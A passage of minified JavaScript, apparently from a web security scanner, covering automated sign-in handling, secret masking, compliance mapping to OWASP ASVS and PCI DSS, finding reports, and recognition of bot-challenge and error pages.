if (isLong && (this.#isIn(url) || this.#password.isIn(sign_in_requests_bodyOf(raw)))) this.leak ??= origin;
if (method !== "GET" && method !== "HEAD") {
this.writes += 1;
this.offHost ??= origin;
}
return true;
}
get fault() {
return this.#providers.fault;
}
isAtProvider(url) {
return this.#providers.isAt(url);
}
atProvider(request, raw) {
if (request.method === "POST") return this.post(request, raw) ?? Promise.resolve(null);
return /^(?:GET|HEAD|OPTIONS)$/.test(request.method) ? this.get(request, raw) : Promise.resolve(null);
}
post(request, raw) {
const isAway = this.isAtProvider(request.url);
if (!this.isSending && !isAway) {
this.isWithheld = true;
return null;
}
this.writes += 1;
const url = URL.parse(request.url);
if (request.method !== "POST" || url === null || (0, link_policy.Ov)(url)) return null;
const body = sign_in_requests_bodyOf(raw);
const key = `${request.url} ${body}`;
const known = this.#sent.get(key);
if (known !== undefined) return known;
const hasPassword = this.#password.isIn(body);
if (this.#isRefused || this.#sent.size >= POSTS_MAX * this.#times || body.length > SENT_BYTES_MAX) return null;
if (hasPassword && !this.#takeAttempt()) return null;
const sent = this.#post(request.url, raw, body, hasPassword);
this.#sent.set(key, sent);
return sent;
}
async #post(url, raw, body, hasPassword) {
const ofPage = !this.#isAway;
const attempt = this.isAtProvider(url) ? await this.#providers.send("POST", url, raw, body) : await this.#options.fetch({
method: "POST",
url: url,
headers: [ ...this.#headers(raw, hasPassword), ...ofBody(raw) ],
body: body,
fresh: true,
maxBytes: BODY_BYTES_MAX
});
this.#note(attempt, hasPassword, ofPage);
return attempt;
}
#takeAttempt() {
if (!this.#options.takeAttempt()) return false;
this.#passwords += 1;
return true;
}
#note(attempt, hasPassword, ofPage = true) {
if (!(0, http.m_)(attempt)) return;
this.answers.push({
exchange: attempt,
hasPassword: hasPassword,
ofPage: ofPage
});
const {status: status, text: text} = attempt.response;
if (hasPassword && (status >= 400 || saysRefused(jsonOf(text)))) this.#isRefused = true;
}
async get({url: url, method: method, type: type, isTop: isTop}, raw) {
if (NEEDLESS.has(type) || this.#reads >= READS_MAX * this.#times) return null;
this.#reads += 1;
if (this.isAtProvider(url)) return this.#providers.send(method, url, raw);
const isPart = type === "Script" || type === "Stylesheet" || isTop && this.#isReturn;
const basic = this.#basicOf(raw);
if (basic !== null && (this.#isRefused || !this.#takeAttempt())) return null;
const attempt = await this.#options.fetch({
method: method === "HEAD" ? "HEAD" : "GET",
url: url,
headers: this.#headers(raw, false),
maxBytes: BODY_BYTES_MAX,
fresh: type !== "Script" && type !== "Stylesheet"
});
if (basic !== null) this.#noteBasic(attempt, basic);
const isRead = !isPart && this.#passwords > 0 && (0, http.m_)(attempt) && attempt.response.status < 300;
if (isRead && this.read.length < READ_LISTED_MAX) this.read.push(url);
return attempt;
}
#basicOf(raw) {
const [, value] = entriesOf(raw).find(([name]) => /^authorization$/i.test(name)) ?? [];
const encoded = /^Basic ([\w+/=-]{1,2000})$/i.exec(value ?? "")?.[1];
if (value === undefined || encoded === undefined || !this.isFilled || value === this.authorization) return null;
return Buffer.from(encoded, "base64").toString().endsWith(`:${this.#options.password}`) ? value : null;
}
#noteBasic(attempt, value) {
this.writes += 1;
this.#note(attempt, true);
if ((0, http.m_)(attempt) && attempt.response.status < 300) this.authorization = value;
}
#headers(raw, hasPassword) {
const headers = forwardedHeaders((0, shared_records.g1)(raw["headers"]), undefined);
for (const [name, value] of headers) {
if (name === "Cookie") this.takeCookies(value);
const isSession = /^authorization$/i.test(name) && !/^\S*\s*(?:null|undefined)?$|^Basic /i.test(value);
if (isSession && this.isFilled && !hasPassword) this.authorization = value; else if (!hasPassword && this.#isIssued(name, value)) this.tokenHeaders.set(name, value);
}
return headers.filter(([name]) => name !== "Cookie");
}
#isIssued(name, value) {
if (!sign_in_requests_TOKEN.test(value) || [ "authorization", "cookie" ].includes(name.toLowerCase())) return false;
if (this.tokenHeaders.size >= TOKEN_HEADERS_MAX && !this.tokenHeaders.has(name)) return false;
return this.answers.some(({exchange: {response: response}}) => response.text.includes(value) || response.headers.some(([, text]) => text.includes(value)));
}
takeCookies(cookies) {
for (const pair of cookies.split(";").slice(0, 100)) {
const [, name = "", value = ""] = /^\s*([!#$%&'*+.^_`|~\w-]{1,256})=([\x20-\x3a\x3c-\x7e]{0,4096})$/.exec(pair) ?? [];
const isKnown = this.#providers.owns(name) || this.#options.hasCookie(name);
if (name !== "" && !isKnown) this.#options.onCookie(name, value);
}
}
async answered() {
await Promise.allSettled(this.#sent.values());
}
#isIn(url) {
if (this.#options.password.length >= SECRET_LENGTH_MIN) return this.#password.isIn(url);
return [ ...new URL(url).searchParams.values() ].includes(this.#options.password);
}
}
function sign_in_requests_bodyOf(raw) {
const entries = Array.isArray(raw["postDataEntries"]) ? raw["postDataEntries"] : [];
const parts = entries.map(entry => Buffer.from(String((0, shared_records.g1)(entry)["bytes"] ?? ""), "base64"));
return parts.length > 0 ? Buffer.concat(parts).toString() : String(raw["postData"] ?? "");
}
const SIGN_IN_MS = 45e3;
const LONG_SIGN_IN_MS = 9e4;
const OPEN_MS = 8e3;
const LEADS_MAX = 4;
const ATTEMPTS_MAX = 3;
function loginBrowser(path, signal) {
return async (options, work) => {
let browser = null;
const end = () => browser?.kill();
const isLong = options.isRecorded || options.providers.length > 0;
const timer = setTimeout(end, isLong ? LONG_SIGN_IN_MS : SIGN_IN_MS);
signal.addEventListener("abort", end);
try {
browser = await BrowserProcess.start({
path: path
});
if (signal.aborted) end();
return await work(await LoginPage.open(browser, options));
} catch (error) {
if (error instanceof BrowserStartError || error instanceof CdpError) return null;
throw error;
} finally {
clearTimeout(timer);
signal.removeEventListener("abort", end);
await (browser?.close());
}
};
}
class LoginPage {
traffic;
replay;
#page;
#gate;
constructor(page, gate, traffic) {
this.#page = page;
this.#gate = gate;
this.traffic = traffic;
this.replay = new RecordedPage(page.session, page.frame, () => this.#rest());
}
static async open(browser, options) {
const traffic = new SignInRequests(options);
const gate = new RequestGate({
context: options,
hasRoom: () => false,
signIn: traffic
});
const name = letter => `${letter}${(0, external_node_crypto_.randomBytes)(8).toString("hex")}`;
const names = {
binding: name("b"),
api: name("a"),
proof: name("p"),
word: name("w")
};
const ignore = () => undefined;
const listener = {
onReport: ignore,
onIssue: ignore,
onPopup: ignore
};
return new LoginPage(await BrowserPage.open(browser, gate, names, listener), gate, traffic);
}
async open(url, isSending = false) {
this.traffic.isSending = isSending;
this.traffic.isWithheld = false;
await patiently(() => this.#page.load(url, {
mode: "crawl"
}));
const end = performance.now() + OPEN_MS;
const isLoading = async () => await this.#page.evaluate("document.readyState") !== "complete";
while (performance.now() < end && await patiently(isLoading)) await this.#settle();
}
async look() {
return readLoginView(await patiently(() => this.#page.call("loginView")));
}
async leads() {
const seen = await patiently(() => this.#page.snapshot());
if (seen === null) return {
urls: [],
buttons: []
};
const {origin: origin} = this.#gate;
const isAway = url => this.traffic.isAtProvider(url);
const routed = [ ...seen.routes, ...routesOfScripts(this.#gate.traffic.exchanges.values()) ];
const urls = [ ...seen.links, ...routed.flatMap(path => (0, route_shape.zo)(path, seen.url) ?? []) ];
const named = [ ...urls.map(url => ({
url: url,
text: ""
})), ...(await this.look())?.links ?? [] ];
const own = named.filter(({url: url, text: text}) => isAway(url) || URL.parse(url)?.origin === origin && isSignIn(url, text)).map(({url: url}) => url);
const buttons = seen.actions.filter(({label: label}) => isSignIn(origin, label)).map(({id: id}) => id);
own.sort((one, other) => Number(isAway(other)) - Number(isAway(one)));
return {
urls: [ ...new Set(own) ].slice(0, LEADS_MAX),
buttons: buttons.slice(0, LEADS_MAX)
};
}
async fill(field, value) {
this.traffic.isFilled = true;
this.traffic.isSending = true;
await patiently(() => this.#page.call("fillField", field, value));
await this.#settle();
}
async enter(field) {
await this.#page.call("focusField", field);
await this.#page.pressEnter();
await this.#rest();
}
async press(button, isSending = this.traffic.isSending) {
this.traffic.isSending = isSending;
await this.#page.call("pressButton", button);
await this.#rest();
}
async origin() {
return String(await patiently(() => this.#page.evaluate("location.origin")));
}
async storage() {
if (await this.origin() !== this.#gate.origin) return {
localStorage: {},
sessionStorage: {}
};
this.traffic.takeCookies(String(await this.#page.evaluate("document.cookie") ?? ""));
return readStorage(await this.#page.call("storedItems"));
}
#settle() {
return patiently(() => this.#page.settle());
}
async #rest() {
await this.#settle();
await this.traffic.answered();
await this.#settle();
}
}
async function patiently(step) {
for (let attempt = 1; ;attempt += 1) try {
return await step();
} catch (error) {
if (!(error instanceof CdpError && error.code === "timeout") || attempt === ATTEMPTS_MAX) throw error;
}
}
function isSignIn(url, text) {
const {hash: hash, origin: origin} = new URL(url);
return (0, sign_in_page.RJ)({
url: (0, route_shape.a5)(hash) ? URL.parse(hash.replace(/^#!?/, ""), origin)?.href ?? url : url,
text: text
});
}
var core_owasp = __webpack_require__(86219);
const compliance_requirements_namespaceObject = JSON.parse('{"jg":["1.2.1","1.2.2","1.2.3","1.2.4","1.2.5","1.3.1","1.3.2","1.5.1","2.1.1","2.2.1","2.2.2","2.3.1","3.2.1","3.2.2","3.3.1","3.4.1","3.4.2","3.5.1","3.5.2","3.5.3","4.1.1","4.4.1","5.2.1","5.2.2","5.3.1","5.3.2","6.1.1","6.2.1","6.2.2","6.2.3","6.2.4","6.2.5","6.2.6","6.2.7","6.2.8","6.3.1","6.3.2","6.4.1","6.4.2","7.2.1","7.2.2","7.2.3","7.2.4","7.4.1","7.4.2","8.1.1","8.2.1","8.2.2","8.3.1","9.1.1","9.1.2","9.1.3","9.2.1","10.4.1","10.4.2","10.4.3","10.4.4","10.4.5","11.3.1","11.3.2","11.4.1","12.1.1","12.2.1","12.2.2","13.4.1","14.2.1","14.3.1","15.1.1","15.2.1","15.3.1"],"xD":["3.3.2","3.4.1","3.4.3","3.4.4","3.4.5","3.4.6","12.1.1","12.2.2","13.4.4"],"XC":["1.1","1.2","1.3","1.4","1.5","2.1","2.2","2.3","3.1","3.2","3.3","3.4","3.5","3.6","3.7","4.1","4.2","5.1","5.2","5.3","5.4","6.1","6.2","6.3","6.4","6.5","7.1","7.2","7.3","8.1","8.2","8.3","8.4","8.5","8.6","9.1","9.2","9.3","9.4","9.5","10.1","10.2","10.3","10.4","10.5","10.6","10.7","11.1","11.2","11.3","11.4","11.5","11.6","12.1","12.2","12.3","12.4","12.5","12.6","12.7","12.8","12.9","12.10"]}');
const ASVS_LEVEL_1 = compliance_requirements_namespaceObject.jg;
const PCI_SECTIONS = compliance_requirements_namespaceObject.XC;
const ASVS_OBSERVABLE = new Set(compliance_requirements_namespaceObject.xD);
const PCI_OBSERVABLE = new Set;
const FRAMEWORKS = {
asvs: "OWASP ASVS 5.0",
pci: "PCI DSS 4.0.1",
owasp: "OWASP Top 10:2025",
owaspApi: "OWASP API Security Top 10:2023"
};
function complianceRows(input) {
if (input.scanType !== "compliance") return [];
const asvs = requirementsOf(input.metas, meta => meta.requirements.asvs ?? []);
const pci = requirementsOf(input.metas, meta => meta.requirements.pci ?? []);
const owasp = requirementsOf(input.metas, meta => (0, core_owasp.sb)(meta.cwe));
return [ ...rows(FRAMEWORKS.asvs, withAll(asvs, ASVS_LEVEL_1), ASVS_OBSERVABLE, input), ...rows(FRAMEWORKS.pci, withAll(pci, PCI_SECTIONS.filter(section => ![ ...pci.keys() ].some(id => id.startsWith(`${section}.`)))), PCI_OBSERVABLE, input), ...rows(FRAMEWORKS.owasp, withAll(owasp, core_owasp.jK.map(category => category.id)), new Set, input), ...input.outcomes.some(isOfApi) ? rows(FRAMEWORKS.owaspApi, new Map(core_owasp.uZ.map(({id: id, checks: checks}) => [ id, checks ])), new Set, input) : [] ];
}
function isOfApi({check_id: id, status: status}) {
return id.startsWith("api.") && (status === "passed" || status === "finding");
}
function requirementsOf(metas, idsOf) {
const found = new Map;
for (const meta of metas) {
for (const id of idsOf(meta)) found.set(id, [ ...found.get(id) ?? [], meta.id ]);
}
return found;
}
function withAll(found, ids) {
return new Map([ ...ids.map(id => [ id, [] ]), ...found ]);
}
function rows(framework, requirements, observable, input) {
const outcomeOf = new Map(input.outcomes.map(outcome => [ outcome.check_id, outcome ]));
return [ ...requirements ].sort(([one], [other]) => compareRequirements(one, other)).map(([requirement, ids]) => {
const ran = ids.filter(id => [ "passed", "finding" ].includes(outcomeOf.get(id)?.status ?? "error")).sort();
const speaks = framework === FRAMEWORKS.owasp ? input.findings.filter(finding => finding.owasp.includes(requirement)) : input.findings.filter(finding => ids.includes(finding.check_id));
const isWhole = ran.length === ids.length && ids.every(id => outcomeOf.get(id)?.partial !== true);
const wholly = observable.has(requirement) && ids.length > 0 && isWhole;
const status = speaks.length > 0 || wholly ? "evidence" : ran.length > 0 ? "partial" : "uncovered";
const checkIds = [ ...new Set([ ...ran, ...speaks.map(finding => finding.check_id) ]) ].sort();
return {
framework: framework,
requirement: requirement,
status: status,
check_ids: checkIds,
findings: speaks.length
};
});
}
function compareRequirements(one, other) {
return one.localeCompare(other, "en", {
numeric: true
});
}
var core_budget = __webpack_require__(95126);
var limits = __webpack_require__(83163);
var primitives = __webpack_require__(89085);
var shared_compare = __webpack_require__(25455);
const exploited_namespaceObject = JSON.parse('{"sP":"CISA Known Exploited Vulnerabilities","p6":"2025-08-25","vN":{"CVE-2014-0160":"2022-05-04","CVE-2020-11023":"2025-01-23"}}');
const ADDED = exploited_namespaceObject.vN;
function withExploited({id: id, component: component}) {
const added = (0, shared_records.eC)(ADDED, id);
const exploited = added === undefined ? null : {
added: added,
source: exploited_namespaceObject.sP,
date: exploited_namespaceObject.p6
};
return {
id: id,
component: component,
exploited: exploited
};
}
function fingerprintOf(checkId, key, target) {
return (0, external_node_crypto_.createHash)("sha256").update(`${checkId}\n${withoutHost(key.toLowerCase(), target)}`).digest("hex").slice(0, 32);
}
function withoutHost(key, {host: host, port: port}) {
const escaped = (0, target_address.V8)(host, null).replace(/[.[\]]/g, "\\$&");
const isWord = !/[.:]/.test(host);
const bare = isWord ? `${escaped}:${port}` : `(?<![a-z0-9.-])${escaped}(?::${port})?(?![a-z0-9-])`;
return key.replace(new RegExp(`https?://${escaped}(?::\\d+)?(?![a-z0-9.-])|${bare}`, "g"), "{target}");
}
var proof = __webpack_require__(31589);
var ratings = __webpack_require__(20422);
function ratingOf(meta, drafted, target) {
const rating = drafted ?? meta.rating;
if (meta.isDeploymentOnly !== true || !target.isLocal) return rating;
const most = target.isLoopback ? ratings.E.none : ratings.E.weakerTransport;
return (0, primitives.qs)(most.severity) > (0, primitives.qs)(rating.severity) ? most : rating;
}
function severityOf(meta, rating, overrides) {
return overrides?.[meta.id] ?? rating.severity;
}
const URL_LENGTH_MAX = 2e3;
const TITLE_LENGTH_MAX = 200;
function findingsOf(meta, drafts, context) {
const groups = Map.groupBy(drafts, draft => draft.key);
return [ ...groups ].map(([key, group]) => findingOf(meta, key, group, context));
}
function sortFindings(findings) {
const sorted = [ ...findings ].sort(shared_compare.E);
const kept = sorted.slice(0, limits.b.findingsPerScanMax);
return {
kept: kept,
omitted: sorted.length - kept.length
};
}
function findingOf(meta, key, group, context) {
const {target: target, options: options} = context;
const clean = (text, max) => boundText(context.clean(text), max);
const cleaned = new Map(group.map(draft => [ draft, {
url: context.clean(draft.location.url),
evidence: context.clean(draft.evidence)
} ]));
const compare = (a, b, part) => (0, shared_compare.n)(cleaned.get(a)?.[part] ?? "", cleaned.get(b)?.[part] ?? "");
const ranked = [ ...group ].sort((a, b) => (0, primitives.qs)((a.rating ?? meta.rating).severity) - (0, 
primitives.qs)((b.rating ?? meta.rating).severity) || primitives.ix.indexOf(a.confidence ?? meta.confidence) - primitives.ix.indexOf(b.confidence ?? meta.confidence) || compare(a, b, "url") || (0, 
shared_compare.n)(a.location.method ?? "", b.location.method ?? "") || (0, shared_compare.n)(a.location.parameter ?? "", b.location.parameter ?? "") || compare(a, b, "evidence"));
const lead = ranked[0];
const locations = distinct(ranked.map(({location: location}) => ({
url: clean(location.url, URL_LENGTH_MAX),
method: location.method ?? null,
parameter: location.parameter === undefined ? null : clean(location.parameter, TITLE_LENGTH_MAX)
})));
const cwe = lead.cwe ?? meta.cwe;
const rating = ratingOf(meta, lead.rating, target);
return {
fingerprint: fingerprintOf(meta.id, context.clean(key), target),
check_id: meta.id,
title: clean(lead.title ?? meta.title, TITLE_LENGTH_MAX),
severity: severityOf(meta, rating, options.severity_overrides),
confidence: lead.confidence ?? meta.confidence,
cvss: {
score: rating.score,
vector: rating.vector
},
cwe: [ ...cwe ],
owasp: (0, core_owasp.sb)(cwe),
location: locations[0],
locations: locations.slice(0, limits.b.findingLocationsMax),
locations_total: locations.length,
description: `${meta.what}\n\n${meta.why}`,
evidence: clean(lead.evidence, limits.b.evidenceLengthMax),
...lead.proof === undefined ? {} : {
proof: (0, proof.oX)(lead.proof, context.proof)
},
remediation: clean(lead.fix ?? meta.fix, limits.b.evidenceLengthMax),
references: [ ...lead.references ?? meta.references ],
...lead.advisories === undefined ? {} : {
advisories: lead.advisories.slice(0, limits.b.findingAdvisoriesMax).map(withExploited)
}
};
}
function boundText(text, max) {
const plain = text.slice(0, max * 2).toWellFormed().replace(/\r\n?/g, "\n").replace(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/g, " ");
return plain.length <= max ? plain : `${plain.slice(0, max - 1).toWellFormed()}…`;
}
function distinct(locations) {
return [ ...new Map(locations.map(location => [ JSON.stringify(location), location ])).values() ];
}
class ProbeError extends Error {
code;
constructor(code, message, options) {
super(message, options);
this.name = "ProbeError";
this.code = code;
}
}
class TextCleaner {
#tokens;
#given;
#sessionSecrets;
#isPublic;
#session=[];
#known;
#masker;
#named=null;
constructor(tokens, options, origin = "", sessionSecrets = () => []) {
this.#tokens = tokens;
this.#isPublic = ({value: value}) => value.length <= origin.length && new secret_masker.M([ value ]).isIn(origin);
this.#given = (0, secret_values.b8)(options).filter(secret => !this.#isPublic(secret));
this.#sessionSecrets = sessionSecrets;
this.#known = this.#given;
this.#masker = new secret_masker.M((0, secret_values.sm)(this.#given));
}
clean(text) {
return this.#current().mask(this.erase(text));
}
erase(text) {
return this.#tokens.erase(text);
}
hasSecret(text) {
return this.#current().isIn(text);
}
find(text) {
const all = this.#current().find(text);
if (all.length === 0) return [];
this.#named ??= [ ...Map.groupBy(this.#known, ({name: name}) => name) ].map(([name, secrets]) => ({
shown: (0, secret_values.kG)(name),
masker: new secret_masker.M((0, secret_values.sm)(secrets))
}));
const found = this.#named.flatMap(({shown: shown, masker: masker}) => masker.find(text).map(range => ({
...range,
shown: shown
})));
return [ ...found, ...all.map(range => ({
...range,
shown: "***"
})) ];
}
get longest() {
this.#current();
return this.#known.reduce((longest, {value: value}) => Math.max(longest, value.length), 0);
}
#current() {
const now = this.#sessionSecrets();
const isKnown = now.length === this.#session.length && now.every(({value: value}, index) => value === this.#session[index]?.value);
if (!isKnown) {
this.#session = now;
this.#known = [ ...this.#given, ...now.filter(secret => !this.#isPublic(secret)) ];
this.#masker = new secret_masker.M((0, secret_values.sm)(this.#known));
this.#named = null;
}
return this.#masker;
}
}
const LETTERS = "abcdefghijklmnopqrstuvwxyz";
class Tokens {
#seed;
#issued=new Set;
#count=0;
constructor(seed) {
this.#seed = seed ?? (0, external_node_crypto_.randomBytes)(16).toString("hex");
}
next(length = 12, extend = letters => letters) {
this.#count += 1;
let token = "";
for (let block = 0; token.length < length; block += 1) {
const digest = (0, external_node_crypto_.createHash)("sha256").update(`${this.#seed}:${this.#count}:${block}`).digest();
for (const byte of digest) token += LETTERS[byte % LETTERS.length];
}
const result = extend(token.slice(0, length));
this.#issued.add(result);
return result;
}
erase(text) {
let erased = text;
for (const token of this.#issued) if (token.length >= 6) erased = erased.replaceAll(token, "scangatetoken");
return erased;
}
}
var package_url = __webpack_require__(61028);
var shared_text = __webpack_require__(89853);
const STARTS_MAX = 2;
const HOSTS_NAMED = 5;
function browserLimits(progress) {
const {ends: ends, actionsLost: actionsLost, actionsLeft: actionsLeft, pagesLeft: pagesLeft, pagesUnproven: pagesUnproven, requestsRefused: requestsRefused, blockedHosts: blockedHosts} = progress;
const limits = [ {
kind: "ended",
count: ends.length,
detail: ends.join("; ")
}, {
kind: "actions_not_completed",
count: actionsLost,
detail: "the browser ended"
}, {
kind: "actions_not_completed",
count: actionsLeft.count,
detail: actionsLeft.reason
}, {
kind: "pages_not_opened",
...counted(pagesLeft)
}, {
kind: "pages_not_probed",
...counted(pagesUnproven)
}, {
kind: "requests_not_sent",
count: requestsRefused,
detail: "the maximum of requests was reached"
}, {
kind: "scripts_not_loaded",
count: blockedHosts.length,
detail: blockedHosts.slice(0, HOSTS_NAMED).join(", ")
} ];
return limits.filter(({count: count}) => count > 0).map(limit => ({
...limit,
detail: limit.detail.slice(0, 300)
}));
}
function counted({count: count, reason: reason}) {
return {
count: count,
detail: reason
};
}
function incompleteReason(progress) {
const {ends: ends, pagesOpened: pagesOpened, steps: steps, pagesUnproven: pagesUnproven} = progress;
if (ends.length >= STARTS_MAX) return `it ended ${ends.length === 2 ? "twice" : `${ends.length} times`}: ${ends.join("; ")}`;
if (pagesOpened === 0) return "it opened no page";
if (steps.done * 2 >= steps.total) return null;
return `${pagesUnproven.reason}: values of links were followed into ${steps.done === 0 ? "none" : "fewer than half"} of ${(0, 
shared_text.LS)(pagesOpened, "page")}`;
}
const WORDS = {
ended: (count, detail) => `it ended ${(0, shared_text.LS)(count, "time")} (${detail})`,
actions_not_completed: (count, detail) => `${(0, shared_text.LS)(count, "action")} of pages not carried out (${detail})`,
pages_not_opened: (count, detail) => `${(0, shared_text.LS)(count, "page")} not opened (${detail})`,
pages_not_probed: (count, detail) => `${(0, shared_text.LS)(count, "page")} not fully probed (${detail})`,
requests_not_sent: (count, detail) => `${(0, shared_text.LS)(count, "request")} of pages not sent (${detail})`,
scripts_not_loaded: (_count, detail) => `scripts of ${detail} were not loaded`
};
function describeLimits(limits) {
if (limits.length === 0) return null;
return limits.map(({kind: kind, count: count, detail: detail}) => WORDS[kind](count, detail)).join("; ");
}
const page_phrases_namespaceObject = JSON.parse('{"Bd":[{"code":"target_challenge","seen":"a bot challenge","titles":["client challenge","just a moment please","checking if the site connection is secure","please verify you are human","security verification","please wait while we check your browser","just a moment","checking your browser","one moment, please","verifying you are human","verify you are human","are you human","are you a robot","human verification","robot check","bot check","bot verification","captcha","captcha required","captcha verification","security check","ddos protection","ddos-guard","making sure you","pardon our interruption","verification required","please verify","are you a human","bot detected","waiting room","you are in line","you are now in line"],"texts":["enable javascript to proceed","check your browser","javascript is required to verify","checking your browser","checking if the site connection is secure","verify you are human","verifying you are human","verify that you are human","prove you are human","confirm you\'re human","confirm you are human","you are not a robot","you\'re not a robot","i\'m not a robot","automated access","automated requests","you are in the queue","you are now in line","enable javascript and cookies to continue","complete the security check","unusual traffic"]},{"code":"target_blocked","seen":"a block page","titles":["403 forbidden","401 unauthorized","406 not acceptable","429 too many requests","error 1020","error 1015","zugriff verweigert","accès refusé","acces refuse","acceso denegado","acesso negado","accesso negato","toegang geweigerd","åtkomst nekad","доступ запрещён","доступ запрещен","アクセスが拒否されました","アクセス拒否","访问被拒绝","접근 거부","access denied by","your access has been restricted","not available in your country","this content is not available in your country","access denied","access forbidden","access blocked","access restricted","access is restricted","restricted access","permission denied","not authorized","unusual activity","access to this page has been denied","attention required","blocked","request blocked","request rejected","request denied","forbidden","403","error 403","not acceptable","unauthorized","unauthorized access","401","sorry, you have been blocked","you have been blocked","web page blocked","page blocked","too many requests","429","rate limit","ip blocked","suspicious activity"],"texts":["access has been restricted","is not available in your country","not available in your region","ip not allowed","ip address is not allowed","ip-adresse wurde gesperrt","zugriff verweigert","accès refusé","acceso denegado","доступ запрещ","アクセスが拒否","访问被拒绝","access denied","access is denied","access restricted","access to this site has been","access to this website has been","request blocked","request has been blocked","request was blocked","request is blocked","request rejected","have been blocked","has been blocked","been denied access","rate limit exceeded","too many requests","blocked by the firewall","blocked for security reasons","blocked by a security","not allowed to access this","do not have permission to access","don\'t have permission to access"]},{"code":"target_maintenance","seen":"a maintenance page","titles":["we\'ll be back soon","we\'ll be back shortly","we will be back soon","we will be back shortly","site undergoing maintenance","undergoing maintenance","maintenance mode","maintenance in progress","website maintenance","system maintenance","503 service unavailable","503 service temporarily unavailable","service temporarily unavailable","under construction","site under construction","メンテナンス中","ただいまメンテナンス中です","технические работы","на сайте ведутся технические работы","系统维护中","网站维护中","przerwa techniczna","점검 중입니다","시스템 점검 중","vi är snart tillbaka","under vedlikehold","تحت الصيانة","maintenance","under maintenance","down for maintenance","site maintenance","scheduled maintenance","site under maintenance","website under maintenance","site is under maintenance","we\'ll be back","we\'ll be right back","we will be back","be right back","temporarily unavailable","temporarily down","site temporarily unavailable","service unavailable","503","wartung","wartungsarbeiten","wartungsmodus","en maintenance","site en maintenance","en mantenimiento","sitio en mantenimiento","em manutenção","in manutenzione","onderhoud"],"texts":["メンテナンス中","ведутся технические работы","维护中","przerwa techniczna","점검 중","snart tillbaka","under vedlikehold","vedligeholdelse","تحت الصيانة","bakımdayız","údržb","under maintenance","down for maintenance","undergoing maintenance","performing maintenance","maintenance mode","be back soon","be back shortly","be right back","site is temporarily unavailable","service is temporarily unavailable","page is temporarily unavailable","temporarily down","wegen wartungsarbeiten","en maintenance","en mantenimiento","em manutenção","in manutenzione"]},{"code":"target_parked","seen":"a domain parking page","titles":["this domain is for sale","domain for sale","domain parked","parked domain","this domain is parked"],"texts":["is registered and is parked","registered and parked","hier entsteht eine neue internetpräsenz","future home of","this domain is for sale","this domain may be for sale","this domain name is for sale","domain is parked","domain has been parked","buy this domain","domain name has been registered","parked free, courtesy of"]},{"code":"target_not_deployed","seen":"a page of a platform without a deployment","titles":["website expired","account suspended","default web site page","domain not connected","opening soon","deployment not found","no such app","site not found","application not found","project not found"],"texts":["deployment not found","deployment could not be found","deployment_not_found","deployment is building","no such app","no deployment found","application failed to respond","nothing has been deployed","website coming soon: upload"]},{"code":"target_not_found","seen":"a \\"not found\\" page","titles":["404 not found","404 page not found","error 404 not found","http 404 not found","404","error 404","http 404","not found","page not found","the page cannot be found"],"texts":[]},{"code":"target_server_error","seen":"an error page","titles":["500 internal server error","502 bad gateway","503 backend fetch failed","504 gateway time-out","504 gateway timeout","gateway timeout","gateway time-out","500","error 500","internal server error","application error","fatal error","parse error","unexpected application error","something went wrong","oops! something went wrong","502","bad gateway","504","gateway time","server error"],"texts":[]}],"mX":["not found","not be found","404","does not exist","doesn\'t exist","no such","can\'t find","cannot find","couldn\'t find","could not find","nothing here","no longer exists","no longer available","unknown path","unknown route","invalid path","cannot get /","nicht gefunden","existiert nicht","introuvable","n\'existe pas","no encontrada","no existe","não encontrada","não existe","non trovata","non esiste","niet gevonden","не найдена","見つかりません","未找到","不存在"]}');
const PAGE_PHRASES = page_phrases_namespaceObject.Bd;
const NOT_FOUND_PHRASES = page_phrases_namespaceObject.mX;
const SHORT_TEXT = 1500;
const SHORT_LINKS = 12;
const VERY_SHORT_TEXT = 400;
const VERY_SHORT_LINKS = 2;
function matchPagePhrases(view) {
if (view.text.length > SHORT_TEXT || view.links.length > SHORT_LINKS) return null;
const text = normalized(view.ownText);
const isVeryShort = text.length <= VERY_SHORT_TEXT && view.links.length <= VERY_SHORT_LINKS;
const names = [ view.title, view.heading ].map(normalized);
if (view.isHtml ? names.every(name => name === "") : isVeryShort) names.push(text.slice(0, 100));
return PAGE_PHRASES.find(({titles: titles, texts: texts}) => titles.some(phrase => names.some(name => beginsWith(name, phrase))) || isVeryShort && texts.some(phrase => text.includes(phrase))) ?? null;
}
function saysNotFound(view) {
const text = normalized(`${view.title} ${view.heading} ${view.text.slice(0, 2e3)}`);
return NOT_FOUND_PHRASES.some(phrase => text.includes(phrase));
}
function beginsWith(name, phrase) {
return name.startsWith(phrase) && !/^\s?[\p{L}\p{N}(]/u.test(name.slice(phrase.length));
}
function normalized(text) {
return text.toLowerCase().replaceAll("’", "'");
}
var redirect = __webpack_require__(79884);
function isRefused(attempt) {
if (!(0, http.m_)(attempt)) return !wasNotSent(attempt);
const {status: status} = attempt.response;
if (status < 300 || saysAbsent(attempt)) return false;
return status >= 400 || leadsNowhere(attempt);
}
function leadsNowhere(exchange) {
const to = (0, redirect.E)(exchange);
return to === null || to.href === exchange.request.url.replace(/#.*/s, "");
}
const ERROR_LENGTH = 2e3;
function saysAbsent(exchange) {
const {status: status} = exchange.response;
if (status === 404 || status === 410) return true;
if (status >= 500) return /\bENOENT\b|No such file or directory/.test(exchange.response.text.slice(0, ERROR_LENGTH));
if (status === 400 || status === 405) return exchange.request.method !== "GET";
return status === 403 && isStorageDenial(exchange);
}
function isRefusalOfClient(status) {
return status === 401 || status === 403 || status === 429 || status >= 500;
}
function wasNotSent(attempt) {
return !(0, http.m_)(attempt) && (attempt.failure.code === "budget" || attempt.failure.code === "blocked");
}
function isStorageDenial(exchange) {
const {headers: headers, text: text} = exchange.response;
if (!/xml$/.test((0, http.JL)(exchange)) || !text.slice(0, 2e3).includes("<Code>AccessDenied</Code>")) return false;
return [ "x-amz-request-id", "x-amz-cf-id", "x-guploader-uploadid" ].some(name => (0, 
http.wx)(headers, name) !== undefined);
}
function departureOf(attempt, origin) {
if (!(0, http.m_)(attempt)) return null;
const to = (0, redirect.E)(attempt);
return to === null || to.origin === origin ? null : to;
}
function redirectWithin(attempt, origin) {
const to = (0, http.m_)(attempt) ? (0, redirect.E)(attempt) : null;
return to === null || to.origin !== origin || isRefused(attempt) ? null : to;
}
function describeResponse(attempt) {
return (0, http.m_)(attempt) ? `status ${attempt.response.status}` : "no response";
}
function drawnObstacle({startView: startView, incomplete: incomplete, signIns: signIns, limits: limits}) {
if (startView === undefined || startView === null || incomplete !== null) return null;
if (startView.isBlank) {
